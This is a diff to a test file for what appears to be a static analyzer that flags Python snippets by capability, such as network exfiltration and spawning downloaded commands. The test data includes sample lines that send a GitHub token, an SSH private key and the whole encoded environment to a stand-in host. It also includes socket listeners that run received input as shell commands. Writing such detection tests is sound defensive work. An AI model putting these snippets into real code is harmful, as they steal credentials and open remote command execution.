@@ -17,6 +17,11 @@ describe("what leaves the machine", () => {
     ],
     ["a token", "requests.get('https://h.test/?t=' + os.environ['GITHUB_TOKEN'])", "network.exfil requests.get"],
     [
+      "the environment, put together in a loop and encoded",
+      "import base64\ns = ''\nfor v in os.environ.values():\n    s += v\nurllib.request.urlopen('https://h.test/' + base64.b64encode(s.encode()).decode())",
+      "network.exfil urllib.request.urlopen",
+    ],
+    [
       "a file of secrets",
       "requests.post('https://h.test', data=open('/root/.ssh/id_rsa').read())",
       "network.exfil-private requests.post",
@@ -112,4 +117,34 @@ test("names what the argument names", async () => {
     environment: [],
   });
   expect(effects.at(-1)?.names.hosts).toEqual(["h2.test:443"]);
+});
+
+describe("what another machine says to run", () => {
+  test.each([
+    [
+      "on a socket",
+      "s = socket.socket()\ns.bind(('', 1))\nc, _ = s.accept()\nsubprocess.getoutput(c.recv(9).decode())",
+      "process.spawn-downloaded",
+    ],
+    [
+      "in a datagram",
+      "s = socket.socket()\nd, a = s.recvfrom(9)\nsubprocess.getoutput(d.decode())",
+      "process.spawn-downloaded",
+    ],
+    [
+      "to a server that makes handlers",
+      "import socketserver\nclass H(socketserver.BaseRequestHandler):\n    def handle(self):\n        subprocess.getoutput(self.request.recv(9))\nsocketserver.TCPServer(('', 1), H)",
+      "process.spawn-downloaded",
+    ],
+    [
+      "to a server that calls a function",
+      "import asyncio\nasync def f(reader, writer):\n    subprocess.getoutput('id')\nasyncio.start_server(f, '', 1)",
+      "process.spawn",
+    ],
+  ])("%s", async (_, source, capability) => {
+    const effects = await effectsOf(HEAD + source);
+    expect(effects.map((one) => one.split(" ").slice(0, 3).join(" "))).toContain(
+      `import ${capability} subprocess.getoutput`,
+    );
+  });
 });
